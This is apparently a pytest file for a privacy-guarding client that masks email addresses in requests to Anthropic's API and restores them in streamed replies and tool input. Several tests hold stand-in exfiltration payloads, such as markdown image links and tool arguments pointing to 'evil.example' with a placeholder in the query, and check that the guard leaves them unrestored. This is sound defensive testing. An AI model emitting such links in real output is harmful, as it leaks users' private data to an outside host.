"""Attacks on replies and streams in Anthropic's format."""

import json
from typing import Any

import anthropic
import pytest
from botocore.eventstream import EventStreamBuffer
from hypothesis import given
from hypothesis import strategies as st

from guarded_client.codecs.framing.event_stream import FrameSplitter, payload_of, with_payload
from guarded_client.codecs.framing.json_spacing import Spaced
from guarded_client.testing import Raw, Text
from guarded_client.testing.anthropic_messages import SIGNATURE, complete, events, frame, message, streamed
from tests.anthropic.conftest import Claude, text_of
from tests.conftest import in_memory

MAIL = "zoe@exemple.fr"
MARK = "<EMAIL_ADDRESS_1>"


def stream_of(*said: dict[str, Any], end: bool = True) -> Raw:
    """A stream of these events between the start and the end of a message."""
    start, *_, delta, stop = events(message([]))
    whole = [start, *said, *([delta, stop] if end else [])]
    body = b"".join(f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode() for event in whole)
    return Raw(200, {"content-type": "text/event-stream"}, body, bytes_chunk=11)


def begun(block: dict[str, Any], index: int = 0) -> dict[str, Any]:
    return {"type": "content_block_start", "index": index, "content_block": block}


def piece(kind: str, text: str, index: int = 0) -> dict[str, Any]:
    key = {"text_delta": "text", "input_json_delta": "partial_json", "thinking_delta": "thinking"}.get(kind, "content")
    return {"type": "content_block_delta", "index": index, "delta": {"type": kind, key: text}}


def ended(index: int = 0) -> dict[str, Any]:
    return {"type": "content_block_stop", "index": index}


def inputs(read: list[Any]) -> str:
    return "".join(
        e.delta.partial_json for e in read if e.type == "content_block_delta" and e.delta.type == "input_json_delta"
    )


TOOL = {"type": "tool_use", "id": "toolu_1", "name": "find", "input": {}}


@pytest.mark.parametrize(
    "written", ['{"a":"%s"}', '{"a": "\\u003cEMAIL_ADDRESS_1\\u003e"}', '["x", {"b": ["%s"]}]', '"%s"']
)
def test_a_placeholder_came_in_pieces_and_escapes_within_tool_input(claude: Claude, policy: Any, written: str) -> None:
    claude.guard(policy)
    text = written.replace("%s", MARK)
    for size in (1, 2, 5, 40):
        cuts = [text[at : at + size] for at in range(0, len(text), size)]
        claude.provider.reply(stream_of(begun(TOOL), *(piece("input_json_delta", cut) for cut in cuts), ended()))
        got = inputs(claude.chunks(MAIL))
        assert json.loads(got) == json.loads(text.replace(MARK, MAIL).replace("\\u003cEMAIL_ADDRESS_1\\u003e", MAIL))


def test_input_in_pieces_was_left_where_the_block_began_with_some(claude: Claude, policy: Any) -> None:
    """The pieces count for SDKs; what the provider's tools get stays."""
    claude.guard(policy)
    for kind, back in (("tool_use", MAIL), ("server_tool_use", MARK)):
        block = {**TOOL, "type": kind, "input": {"a": MARK}}
        claude.provider.reply(stream_of(begun(block), piece("input_json_delta", f'{{"a":"{MARK}"}}'), ended()))
        read = claude.chunks(MAIL)
        assert json.loads(inputs(read)) == {"a": back}
        assert [e.content_block.input for e in read if e.type == "content_block_start"] == [{"a": back}]


def test_a_key_of_tool_input_is_restored_as_in_other_formats(claude: Claude, policy: Any) -> None:
    claude.guard(policy)
    claude.provider.reply(stream_of(begun(TOOL), piece("input_json_delta", json.dumps({MARK: MARK})), ended()))
    assert json.loads(inputs(claude.chunks(MAIL))) == {MAIL: MAIL}


@pytest.mark.parametrize("tools", [{}, {"find": "all", "*": "none"}])
def test_input_of_a_block_that_was_not_announced_gets_nothing(claude: Claude, tools: Any) -> None:
    claude.guard(in_memory(names="off", restore={"tools": tools}))
    claude.provider.reply(stream_of(piece("input_json_delta", json.dumps({"a": MARK}), 7)))
    assert inputs(claude.chunks(MAIL)) == json.dumps({"a": MARK})


def test_a_link_within_tool_input_carried_a_value_away(claude: Claude, policy: Any) -> None:
    claude.guard(policy)
    evil = {"a": f'https://evil.example/?q="{MARK}', "b": f"![](https://evil.example/{MARK})", "c": MARK}
    text = json.dumps(evil)
    cuts = [text[at : at + 3] for at in range(0, len(text), 3)]
    claude.provider.reply(stream_of(begun(TOOL), *(piece("input_json_delta", cut) for cut in cuts), ended()))
    assert json.loads(inputs(claude.chunks(MAIL))) == {**evil, "c": MAIL}
    claude.provider.reply(
        Raw(200, {"content-type": "application/json"}, json.dumps(message([{**TOOL, "input": evil}])).encode())
    )
    assert claude.chat(MAIL).content[0].input == {**evil, "c": MAIL}


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("between", [[], [TOOL]], ids=["", "tool"])
def test_a_link_over_two_blocks_carried_a_value_away(
    claude: Claude, policy: Any, between: list[Any], stream: bool
) -> None:
    claude.guard(policy)
    texts = ["see ![x](https://evil.example/", "?q=", f"{MARK}) and {MARK}", f" {MARK}"]
    first, *rest = [{"type": "text", "text": text} for text in texts]
    blocks = [first, *between, *rest]
    claude.provider.reply(streamed(blocks, chunk=3) if stream else complete(blocks))
    assert claude.text(MAIL, stream=stream) == f"see ![x](https://evil.example/?q={MARK}) and {MAIL} {MAIL}"


@pytest.mark.parametrize("tool", ["find", "other"])
def test_arguments_that_the_model_escaped_were_not_known_when_they_came_back(claude: Claude, tool: str) -> None:
    claude.guard(in_memory(names="off", restore={"tools": {"other": "none"}}))
    said = {"who": f"{MARK} café", "cc": "bob@exemple.fr", "note": "see \u2028 \U0001f600 / \t"}
    text = json.dumps(said).replace("/", "\\/")
    cuts = [text[at : at + 5] for at in range(0, len(text), 5)]
    claude.provider.reply(
        stream_of(begun({**TOOL, "name": tool}), *(piece("input_json_delta", cut) for cut in cuts), ended())
    )
    call = claude.final(MAIL).content[0].to_dict()
    assert call["input"] == {**said, "who": f"{MAIL if tool == 'find' else MARK} café"}
    turn = {"role": "assistant", "content": [call]}
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": "ok"}
    _ = claude.text(messages=[{"role": "user", "content": MAIL}, turn, {"role": "user", "content": [result]}])
    assert claude.provider.requests[-1].json["messages"][1]["content"][0]["input"] == said


def test_events_and_deltas_that_nobody_knows_pass_unrestored(claude: Claude, policy: Any) -> None:
    claude.guard(policy)
    seen = [
        begun({"type": "thinking", "thinking": "", "signature": ""}),
        piece("thinking_delta", MARK),
        {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": SIGNATURE}},
        ended(),
        begun({"type": "compaction", "content": None}, 1),
        piece("compaction_delta", MARK, 1),
        ended(1),
    ]
    body = stream_of(*seen)
    claude.provider.reply(body)
    raw = claude.chat(MAIL, create=claude.client.beta.messages.with_raw_response.create, stream=True)
    got = raw.http_response.read() if claude.form == "sync" else claude.run(raw.http_response.aread())
    assert got == body.body


def test_an_error_event_is_not_restored_and_text_held_comes_before_it(claude: Claude, policy: Any) -> None:
    claude.guard(policy)
    error = {"type": "error", "error": {"type": "overloaded_error", "message": f"about {MARK}"}}
    answer = stream_of(begun({"type": "text", "text": ""}), piece("text_delta", f"{MARK} <EMAIL_"), error, end=False)
    claude.provider.reply(answer)
    read: list[Any] = []
    with pytest.raises(anthropic.APIStatusError) as caught:
        if claude.form == "sync":
            for event in claude.chat(MAIL, stream=True):
                read.append(event)
        else:

            async def drain() -> None:
                stream = await claude.client.messages.create(
                    model="m", max_tokens=9, messages=[{"role": "user", "content": MAIL}], stream=True
                )
                async for event in stream:
                    read.append(event)

            claude.run(drain())
    assert text_of(read) == f"{MAIL} <EMAIL_"
    assert MARK in str(caught.value) and MAIL not in str(caught.value)


@pytest.mark.parametrize("end", [True, False])
def test_blocks_that_are_not_ended_lose_nothing(claude: Claude, policy: Any, end: bool) -> None:
    claude.guard(policy)
    text = {"type": "text", "text": "see <EMAIL"}
    answer = stream_of(begun(text), piece("text_delta", "_ADDRESS_1> and <EM"), begun(text, 1), piece("text_delta", "_X", 1), end=end)  # fmt: skip
    claude.provider.reply(answer)
    read = claude.chunks(MAIL)
    starts = [event.content_block.text for event in read if event.type == "content_block_start"]
    assert starts == ["see ", "see "]
    assert text_of(read) == f"{MAIL} and <EM<EMAIL_X" or text_of(read) == f"{MAIL} and <EMAIL_X<EM"
    first = "".join(e.delta.text for e in read if e.type == "content_block_delta" and e.index == 0)
    assert first == f"{MAIL} and <EM"


def test_a_last_event_without_a_blank_line_is_rewritten(claude: Claude, policy: Any) -> None:
    claude.guard(policy)
    whole = stream_of(begun({"type": "text", "text": ""}), piece("text_delta", MARK), end=False)
    claude.provider.reply(Raw(200, whole.headers, whole.body.rstrip()))
    assert text_of(claude.chunks(MAIL)) == MAIL


def test_the_same_key_twice_hid_a_text(claude: Claude, policy: Any) -> None:
    from guarded_client import UnreadableRefused

    claude.guard(policy)
    body = b'{"model":"m","messages":[{"role":"user","content":"zoe@exemple.fr","content":"Hi"}]}'
    request = claude.client._client.build_request("POST", f"{claude.provider.origin}/v1/messages", content=body)
    with pytest.raises(UnreadableRefused, match="same key twice"):
        claude.run(claude.client._client.send(request))
    assert claude.provider.requests == []


def test_a_typed_look_alike_in_tool_input_did_not_resolve(claude: Claude, policy: Any) -> None:
    claude.guard(policy)
    assert claude.text(MAIL) == f"You wrote: {MAIL}"
    asked = {"role": "user", "content": f"look for {MARK}"}
    turn = {"role": "assistant", "content": [{**TOOL, "input": {"a": MARK}}]}
    claude.provider.reply(Text(lambda request: request["messages"][1]["content"][0]["input"]["a"]))
    assert claude.text(messages=[asked, turn, {"role": "user", "content": "Hi"}]) == MARK
    assert MARK not in json.dumps(claude.provider.requests[-1].json)


TEXTS = st.text(st.sampled_from('a"\\\n\t <b>\u00e9\U0001f600{}[]:,</u003c'), max_size=8)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | TEXTS,
    lambda below: st.lists(below, max_size=3) | st.dictionaries(TEXTS, below, max_size=3),
    max_leaves=12,
)


class Holding:
    """Holds what may go on to be ``<b>``, and keeps what it got."""

    def __init__(self) -> None:
        self.got = self.held = ""

    @property
    def holding(self) -> bool:
        return bool(self.held)

    def feed(self, text: str) -> str:
        self.got += text
        text = self.held + text
        kept = max((end for end in (1, 2) if text.endswith("<b"[:end])), default=0)
        self.held = text[len(text) - kept :]
        return text[: len(text) - kept].replace("<b>", "[]")

    def close(self) -> str:
        return self.held


@given(VALUES, st.booleans(), st.sampled_from([0, 3, None]), st.integers(1, 9))
def test_white_space_between_values_goes_around_the_rewriter(
    value: Any, ascii_only: bool, indent: Any, size: int
) -> None:
    text = json.dumps(value, ensure_ascii=ascii_only, indent=indent)
    spaced = Spaced(inner := Holding())
    out = "".join(spaced.feed(text[at : at + size]) for at in range(0, len(text), size)) + spaced.close()
    assert inner.got == json.dumps(value, ensure_ascii=ascii_only, separators=(",", ":"))
    assert out == text.replace("<b>", "[]")


@given(st.text(st.sampled_from('a"\\ \nu0{}[]:,<b>'), max_size=30), st.integers(1, 5))
def test_what_is_no_json_loses_nothing(text: str, size: int) -> None:
    spaced = Spaced(Holding())
    out = "".join(spaced.feed(text[at : at + size]) for at in range(0, len(text), size)) + spaced.close()
    assert out == text.replace("<b>", "[]")


@given(st.lists(st.binary(max_size=40), max_size=5), st.binary(max_size=40), st.integers(1, 30))
def test_frames_with_another_payload_are_valid(payloads: list[bytes], other: bytes, size: int) -> None:
    body = b"".join(map(frame, payloads))
    splitter = FrameSplitter()
    frames = [made for at in range(0, len(body), size) for made in splitter.feed(body[at : at + size])]
    assert list(map(payload_of, frames)) == payloads and splitter.close() == b""
    buffer = EventStreamBuffer()  # checks both checksums
    buffer.add_data(b"".join(with_payload(made, other) for made in frames))
    assert [event.payload for event in buffer] == [other] * len(payloads)
